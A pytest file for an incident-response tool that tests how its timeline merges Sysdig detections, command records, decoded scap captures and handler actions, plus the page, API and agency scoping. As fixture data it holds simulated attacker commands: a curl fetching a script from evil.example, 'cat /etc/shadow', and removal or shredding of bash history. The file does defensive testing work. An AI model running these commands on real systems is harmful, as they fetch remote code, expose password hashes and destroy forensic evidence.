"""The incident timeline: detections of its candidates, the Sysdig command records that belong to
it, commands decoded from its scap evidence and the handlers' actions, in time order to the
nanosecond (``incidents.timeline.incident_timeline``), its page and its API endpoint, and who
may see them."""

from __future__ import annotations

import io
from datetime import UTC, datetime

import pytest
import time_machine

from evidence.services import evidence_upload
from incidents import falco
from incidents.ingest import candidate_promote, detections_group, sysdig_store
from incidents.models import AuditorGrant, IncidentCandidate
from incidents.timeline import incident_timeline, local_time

from .support.alerts import CONTAINER, LABELS, T0_NS, command_record, policy_event
from .support.captures import needs_sysdig
from .support.data import shared_file

NOW = datetime(2023, 5, 25, 15, 0, tzinfo=UTC)
CURL_NS = 1534527348514632619
SEC = 1_000_000_000
N_API_QUERIES = 10  # the agency context and the incident (3), then the selector (7)
OTHER_POD = {**LABELS, "kubernetes.pod.name": "frontend-7d9c-zz9qq"}


@pytest.fixture(autouse=True)
def frozen_clock():
    with time_machine.travel(NOW, tick=False):
        yield


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


@pytest.fixture
def store_system(web_system):
    web_system.image_repositories = ["registry.fta.gov/store/"]
    web_system.save()
    return web_system


def ingest(agency, body):
    items = [falco.Item(index=i, value=v) for i, v in enumerate(body)]
    result = sysdig_store(agency=agency, items=items, now=NOW)
    assert not result.rejected, result.rejected
    detections_group(agency_id=agency.pk, now=NOW)
    return result


@pytest.fixture
def incident(ctx, alice, agency_a, agency_b, store_system):
    """Two Sysdig policy events in the store pod, promoted to an incident; command records
    around them — some that belong, some that do not — delivered before the promotion."""
    ingest(
        agency_a,
        [
            policy_event("Terminal shell in container", event_id="e1"),
            policy_event("Clear Log Activities", event_id="e2", ts=T0_NS + 30 * SEC),
            # Belong: the same pod, seconds before; one nanosecond apart, in order.
            command_record("bash", pid=4200, ppid=1, ts=T0_NS - 5 * SEC),
            command_record("id", pid=4243, ts=T0_NS - 5 * SEC + 1),
            # Belongs: the same container, no Kubernetes labels, inside the span.
            command_record("cat /etc/shadow", pid=4250, labels={}, ts=T0_NS + 10 * SEC),
            # Do not: another pod and container; the same pod an hour before.
            command_record("ls", pid=7, labels=OTHER_POD, container="aa11bb22cc33"),
            command_record("uptime", pid=8, ts=T0_NS - 3600 * SEC),
        ],
    )
    # The same command in agency B never shows in agency A.
    ingest(agency_b, [command_record("whoami", pid=4244, ts=T0_NS)])
    candidate = IncidentCandidate.objects.get(agency=agency_a)
    return candidate_promote(
        ctx=ctx(alice, agency_a), candidate=candidate, title="Shell in the store pod", now=NOW
    )


def test_the_timeline_merges_detections_commands_and_actions_in_time_order(
    ctx, carol, agency_a, incident
):
    timeline = incident_timeline(ctx(carol, agency_a), incident)
    got = [(e.source, e.command or e.detail) for e in timeline.entries]
    assert got == [
        ("command", "bash"),
        ("command", "id"),
        ("detection", "bash -c rm -f /root/.bash_history"),
        ("command", "cat /etc/shadow"),
        ("detection", "bash -c rm -f /root/.bash_history"),
        ("action", "Opened (— → detected)"),
        (
            "action",
            "Reporting obligation created: CISA incident notification due 2023-05-25 12:00 EDT "
            "(America/New_York) (incident opened).",
        ),
        ("action", "Updated: Opened from an incident candidate of 2 detection(s)."),
    ]
    first, second = timeline.entries[:2]
    assert (first.time_ns, second.time_ns) == (T0_NS - 5 * SEC, T0_NS - 5 * SEC + 1)
    assert (first.user, first.pid, first.ppid) == ("root", 4200, 1)
    assert first.container == f"store/frontend-7d9c-xk2lp ({CONTAINER})"
    shell = timeline.entries[2]
    assert shell.detail == "Notice: Terminal shell in container" and shell.origin == "Sysdig"
    assert shell.time_ns == T0_NS
    assert timeline.entries[5].time_ns is None and timeline.entries[5].user == "alice"
    assert not timeline.truncated


def test_command_records_arriving_after_promotion_show_up(ctx, carol, agency_a, incident):
    ingest(agency_a, [command_record("curl http://evil.example/x.sh", pid=4300, ts=T0_NS + SEC)])
    commands = [e.command for e in incident_timeline(ctx(carol, agency_a), incident).entries]
    assert "curl http://evil.example/x.sh" in commands


def test_a_local_time_has_the_zone_and_the_nanoseconds(ctx, carol, agency_a, incident):
    entries = incident_timeline(ctx(carol, agency_a), incident).entries
    assert local_time(entries[1], agency_a.tz) == "2023-05-25 09:44:00.478445996 EDT"
    assert local_time(entries[5], agency_a.tz) == "2023-05-25 11:00:00.000000 EDT"


def test_sources_filter_the_timeline(ctx, carol, agency_a, incident):
    only = incident_timeline(ctx(carol, agency_a), incident, sources=["command"])
    assert {e.source for e in only.entries} == {"command"} and len(only.entries) == 3
    assert only.sources == ("command",)


def test_the_limit_cuts_and_says_so(ctx, carol, agency_a, incident):
    timeline = incident_timeline(ctx(carol, agency_a), incident, limit=2)
    assert timeline.truncated and [e.command for e in timeline.entries] == ["bash", "id"]


def test_the_number_of_queries_does_not_grow_with_the_rows(
    ctx, carol, agency_a, incident, django_assert_num_queries
):
    c = ctx(carol, agency_a)
    with django_assert_num_queries(7):
        small = incident_timeline(c, incident)
    ingest(agency_a, [command_record(f"sleep {i}", pid=5000 + i, ts=T0_NS + i) for i in range(40)])
    with django_assert_num_queries(7):
        big = incident_timeline(c, incident)
    assert len(big.entries) == len(small.entries) + 40


@needs_sysdig
def test_commands_of_the_incidents_scap_evidence_join_the_timeline(
    ctx, alice, carol, olivia, agency_a, incident, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        ev = evidence_upload(
            ctx=ctx(alice, agency_a),
            incident=incident,
            fileobj=io.BytesIO(shared_file("scap", "curl_google.scap").read_bytes()),
            filename="curl_google.scap",
            kind="scap",
        )
    timeline = incident_timeline(ctx(carol, agency_a), incident, sources=["capture"])
    [curl] = timeline.entries
    assert (curl.command, curl.time_ns, curl.pid, curl.ppid) == (
        "curl -6 http://www.google.com",
        CURL_NS,
        17497,
        3200,
    )
    assert curl.container == "host" and curl.origin == "curl_google.scap"
    assert curl.ref == {"type": "evidence", "id": ev.pk, "command": curl.ref["command"]}
    assert [x.status for x in timeline.extractions] == ["succeeded"]

    # Withdrawn, the capture's commands stay on the timeline, marked as such.
    from evidence.services import evidence_withdraw

    evidence_withdraw(ctx=ctx(olivia, agency_a), evidence=ev, reason="Wrong node.")
    [curl] = incident_timeline(ctx(carol, agency_a), incident, sources=["capture"]).entries
    assert curl.origin == "curl_google.scap (withdrawn evidence)"


def test_a_failed_extraction_is_shown_on_the_page(
    client, ctx, alice, carol, agency_a, incident, settings, django_capture_on_commit_callbacks
):
    settings.DOCKET_SYSDIG_BINARY = "/nonexistent/sysdig"
    with django_capture_on_commit_callbacks(execute=True):
        evidence_upload(
            ctx=ctx(alice, agency_a),
            incident=incident,
            fileobj=io.BytesIO(shared_file("scap", "raw.scap").read_bytes()),
            filename="raw.scap",
            kind="scap",
        )
    client.force_login(carol)
    page = client.get(f"/incidents/{incident.number}/timeline/").content.decode()
    assert "Commands of raw.scap could not be decoded: sysdig is not installed" in page


# --- the page ---------------------------------------------------------------------------------


def test_the_page_lists_the_timeline_with_zone_and_nanoseconds(client, carol, incident):
    client.force_login(carol)
    response = client.get(f"/incidents/{incident.number}/timeline/")
    assert response.status_code == 200
    page = response.content.decode()
    assert "Times in America/New_York" in page
    assert "2023-05-25 09:44:00.478445995 EDT" in page
    assert '<code class="docket-wrap-anywhere">cat /etc/shadow</code>' in page
    assert "Command record" in page and "Sysdig activity audit" in page
    assert "Handler action" in page
    assert "uptime" not in page and "whoami" not in page


def test_the_page_filters_by_source(client, carol, incident):
    client.force_login(carol)
    page = client.get(f"/incidents/{incident.number}/timeline/?source=action").content.decode()
    assert "Opened from an incident candidate" in page
    assert "cat /etc/shadow" not in page
    assert 'value="action" checked' in page and 'value="command">' in page


def test_an_unknown_source_is_named(client, carol, incident):
    client.force_login(carol)
    response = client.get(f"/incidents/{incident.number}/timeline/?source=telepathy")
    assert response.status_code == 400
    assert "Unknown source(s) telepathy" in response.content.decode()


def test_the_detail_page_links_to_the_timeline(client, carol, incident):
    client.force_login(carol)
    page = client.get(f"/incidents/{incident.number}/").content.decode()
    assert f'href="/incidents/{incident.number}/timeline/"' in page


def test_another_agency_and_an_ungranted_auditor_get_404(client, bob, audrey, incident):
    for user in (bob, audrey):
        client.force_login(user)
        assert client.get(f"/incidents/{incident.number}/timeline/").status_code == 404


# --- the API ----------------------------------------------------------------------------------


def test_the_api_gives_the_timeline_with_nanoseconds(api, carol, incident):
    response = api(carol).get(f"/api/v1/incidents/{incident.number}/timeline/")
    assert response.status_code == 200
    body = response.json()
    assert body["incident"] == incident.number and body["time_zone"] == "America/New_York"
    assert body["count"] == 8 and body["truncated"] is False
    first = body["results"][0]
    assert first["source"] == "command" and first["time_ns"] == T0_NS - 5 * SEC
    assert first["time_local"] == "2023-05-25 09:44:00.478445995 EDT"
    assert first["time"] == "2023-05-25T13:44:00.478445Z"
    assert body["results"][-1]["time_ns"] is None


def test_the_api_filters_and_names_unknown_sources(api, carol, incident):
    client = api(carol)
    url = f"/api/v1/incidents/{incident.number}/timeline/"
    only = client.get(url, {"source": ["detection", "action"]}).json()
    assert {r["source"] for r in only["results"]} == {"detection", "action"}
    bad = client.get(url, {"source": "nope"})
    assert bad.status_code == 400 and "Unknown source(s) nope" in bad.json()["detail"]


def test_the_api_is_scoped(api, bob, audrey, incident):
    url = f"/api/v1/incidents/{incident.number}/timeline/"
    assert api(bob).get(url).status_code == 404
    assert api(audrey).get(url).status_code == 404
    AuditorGrant.objects.create(incident=incident, user=audrey)
    granted = api(audrey).get(url)
    assert granted.status_code == 200 and granted.json()["count"] == 8


def test_the_demo_incident_has_a_sysdig_timeline(db, ctx):
    from django.contrib.auth import get_user_model
    from django.core.management import call_command

    from accounts.models import Agency
    from incidents.models import Incident

    call_command("load_demo", stdout=io.StringIO())
    demo = Agency.objects.get(abbreviation="DEMO")
    main = Incident.objects.get(agency=demo, title="Compromised store-frontend-ping-php pod")
    isso = get_user_model().objects.get(username="isso")
    timeline = incident_timeline(ctx(isso, demo), main, sources=["detection", "command"])
    # Falco's six alerts and Sysdig's three policy events, all of the one pod.
    assert [e.source for e in timeline.entries].count("detection") == 9
    # Sysdig's record of each of the attack's eight commands, bash first, shred last.
    commands = [e.command for e in timeline.entries if e.source == "command"]
    assert commands[0] == "bash"
    assert commands[-1] == "shred -f /var/www/.bash_history" and len(commands) == 8
    ns = [e.time_ns for e in timeline.entries]
    assert ns == sorted(ns)


def test_the_api_answers_without_the_trailing_slash_too(api, carol, incident):
    response = api(carol).get(f"/api/v1/incidents/{incident.number}/timeline")
    assert response.status_code == 200 and response.json()["count"] == 8


def test_the_api_query_count_does_not_grow_with_the_rows(
    api, carol, agency_a, incident, django_assert_num_queries
):
    client = api(carol)
    url = f"/api/v1/incidents/{incident.number}/timeline/"
    client.get(url)  # warm the per-process caches (content types, rule sets)
    with django_assert_num_queries(N_API_QUERIES):
        assert client.get(url).json()["count"] == 8
    ingest(agency_a, [command_record(f"sleep {i}", pid=6000 + i, ts=T0_NS + i) for i in range(30)])
    with django_assert_num_queries(N_API_QUERIES):
        assert client.get(url).json()["count"] == 38
